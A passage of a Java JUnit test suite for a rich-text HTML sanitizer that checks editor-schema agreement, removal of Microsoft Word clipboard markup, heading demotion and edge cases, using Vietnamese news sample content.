				case "tr" -> "<table><tbody>" + html + "</tbody></table>";
				case "thead", "tbody", "tfoot", "caption" -> "<table>" + html + "</table>";
				case "li" -> "<ul>" + html + "</ul>";
				case "figcaption" -> "<figure>" + html + "</figure>";
				default -> html;
			};
		}

		@Test
		void theSchemaIsTheListAndWritesEveryElementOnce() {
			Map<String, List<String>> editor = editorElements();
			assertThat(editor).containsOnlyKeys(RichText.ELEMENTS.keySet());
			editor.forEach((element, attributes) -> assertThat(attributes).as(element)
				.containsExactlyElementsOf(RichText.ELEMENTS.get(element)));
			assertThat(RichText.editorSchema().validElements()).contains("a[!href|title]", "img[!src|alt|title|width|height|class]")
				.doesNotContain("style").doesNotContainPattern("[\\[|]on").doesNotContainPattern("(^|,)(span|h1|font)(\\[|,|$)");
			assertThat(RichText.editorSchema().validClasses()).isEqualTo("align-left align-center align-right image table");
		}

		@Test
		void everythingTheEditorMayWriteComesThroughTheSanitizerWhole() {
			editorElements().forEach((element, attributes) -> {
				String html = inContext(element, sample(element, attributes));
				String out = RichText.sanitize(html);
				assertThat(out).as("sanitized %s", html).contains("<" + element);
				for (String attribute : attributes) {
					assertThat(out).as("%s on %s", attribute, element).contains(" " + attribute + "=\"");
				}
			});
			for (String name : RichText.editorSchema().validClasses().split(" ")) {
				assertThat(RichText.sanitize("<p class=\"" + name + "\">Tin</p>")).isEqualTo("<p class=\"" + name + "\">Tin</p>");
			}
			assertThat(RichText.sanitize("<figure class=\"image align-left\"><img src=\"/media/a.jpg\" alt=\"\" /></figure>"))
				.startsWith("<figure class=\"image align-left\">");
		}

		@Test
		void nothingTheSanitizerKeepsIsUnknownToTheEditor() {
			Map<String, List<String>> editor = editorElements();
			for (String element : HTML_ELEMENTS) {
				String html = inContext(element, sample(element, List.copyOf(ATTRIBUTES.keySet())));
				String out = RichText.sanitize(html);
				var tags = Pattern.compile("<([a-z0-9]+)([^>]*)>").matcher(out);
				while (tags.find()) {
					String kept = tags.group(1);
					assertThat(editor).as("element <%s> kept from %s", kept, html).containsKey(kept);
					var attributes = ATTRIBUTE_NAME.matcher(tags.group(2));
					while (attributes.find()) {
						String attribute = attributes.group(1);
						if (!attribute.equals("rel")) { // the sanitizer adds rel="noopener noreferrer" itself
							assertThat(editor.get(kept)).as("attribute %s kept on <%s>", attribute, kept).contains(attribute);
						}
					}
				}
			}
		}

		@Test
		void anH1BecomesTheFirstHeadingBelowTheArticleTitle() {
			assertThat(RichText.sanitize("<h1 class=\"align-center\" style=\"color:red\">Kết quả Đại hội</h1>"))
				.isEqualTo("<h2 class=\"align-center\">Kết quả Đại hội</h2>");
		}

	}

	/**
	 * Real Word clipboards (src/test/resources/word-paste) straight into the sanitizer, as if no
	 * editor had cleaned them first: what must survive does, Word's own markup does not.
	 */
	@Nested
	class WordClipboards {

		static String clipboard(String name) throws IOException {
			try (var in = RichTextTest.class.getResourceAsStream("/word-paste/" + name)) {
				return new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
			}
		}

		static void assertNoWordMarkup(String out) {
			assertThat(out).doesNotContain("mso-", "Mso", "o:p", "<o:", "<v:", "<w:", "<xml", "<span", "<font", "style=",
					"class=\"Mso", "lang=", "color", "font-family", "Times New Roman", "Calibri", "@font-face", "@list",
					"WordDocument", "file:", "<img", "<meta", "<link", "[if", "endif", "StartFragment", "<h1", "align=",
					"width=", "valign", "cellspacing", "border=", "background");
			assertSafe(out);
		}

		@Test
		void aWordArticleKeepsHeadingsEmphasisLinksAndTables() throws IOException {
			String out = RichText.sanitize(clipboard("article.html"));
			assertNoWordMarkup(out);
			String flat = out.replaceAll("\\s+", " ");
			assertThat(flat).contains("<h2>Hội nghị sơ kết công tác tổ chức xây dựng Đảng</h2>", "<h2>Kết quả nổi bật</h2>",
					"<b>sơ kết công tác 6 tháng đầu năm</b>", "<i>6 tháng cuối năm</i>",
					"<i>Tin từ Văn phòng Ban Tổ chức Tỉnh ủy</i>",
					"<a href=\"https://dangcongsan.vn/tu-lieu-van-kien\" rel=\"noopener noreferrer\">Báo điện tử Đảng Cộng sản Việt Nam</a>",
					"<table><tbody><tr><td> <p><b>Chỉ tiêu</b></p> </td>", "Kết nạp <b>1.245</b> đảng viên mới",
					"<p>Văn phòng Ban Tổ chức Tỉnh ủy</p>");
			// The text of every list item is there (the editor's paste turns them into lists, see editor-paste.js).
			assertThat(RichText.toPlainText(out)).contains("Sắp xếp, tinh gọn 12 đầu mối trực thuộc", "trong đó 3 đơn vị sự nghiệp",
					"Chuẩn bị nhân sự đại hội đảng bộ các cấp", "Rà soát quy hoạch cán bộ nhiệm kỳ 2025–2030");
		}

		@Test
		void aWordTableKeepsItsHeaderAndMergedCellsAndLosesItsShading() throws IOException {
			String out = RichText.sanitize(clipboard("table.html"));
			assertNoWordMarkup(out);
			String flat = out.replaceAll("\\s+", " ");
			assertThat(flat).contains("<table><thead><tr><td rowspan=\"2\">", "<td colspan=\"2\"> <p><b>Biên chế</b></p>",
					"<tbody><tr><td> <p>Cơ quan Đảng, Mặt trận</p>", "<p><i>Chính quyền cấp tỉnh</i></p>", "<p>2.811</p>");
		}

		@Test
		void whatTheEditorMakesOfAWordClipboardIsKeptAsItIs() {
			// editor-paste.js's output for article.html (as the browser journey checks it), through the sanitizer.
			String cleaned = "<h2>Kết quả nổi bật</h2><ul><li>Sắp xếp, tinh gọn 12 đầu mối trực thuộc<ul><li>trong đó 3 đơn vị"
					+ " sự nghiệp</li></ul></li><li>Kết nạp <b>1.245</b> đảng viên mới</li></ul><ol><li>Chuẩn bị nhân sự</li></ol>"
					+ "<p class=\"align-center\"><i>Tin từ Văn phòng</i></p><table><thead><tr><th rowspan=\"2\" scope=\"col\">"
					+ "<b>Khối cơ quan</b></th><th colspan=\"2\" scope=\"col\"><b>Biên chế</b></th></tr></thead><tbody><tr>"
					+ "<td>Cơ quan Đảng</td><td>1.318</td><td>1.276</td></tr></tbody></table>";
			assertThat(RichText.sanitize(cleaned)).isEqualTo(cleaned);
		}

	}

	@Nested
	class Edges {

		@ParameterizedTest
		@NullAndEmptySource
		@ValueSource(strings = { "   ", "\n\t" })
		void nothingBecomesEmpty(String html) {
			assertThat(RichText.sanitize(html)).isEmpty();
		}

		@Test
		void plainTextIsEscapedNotInterpreted() {
			assertThat(RichText.sanitize("Tin <b>đậm</b> & 1 < 2")).isEqualTo("Tin <b>đậm</b> &amp; 1 &lt; 2");
		}

		@Test
		void resultIsStripped() {
			assertThat(RichText.sanitize("  \n<p>Tin</p>\n  ")).isEqualTo("<p>Tin</p>");
		}

		@Test
		void plainTextRemovesTagsAndDecodesEntities() {
			assertThat(RichText.toPlainText("<p>Hội&nbsp;nghị &amp; <strong>Đại hội</strong></p>\n<p>Tin&#39;s</p>"))
				.isEqualTo("Hội\u00A0nghị & Đại hội Tin's");
			assertThat(RichText.toPlainText(null)).isEmpty();
			assertThat(RichText.toPlainText("")).isEmpty();
		}

	}

}
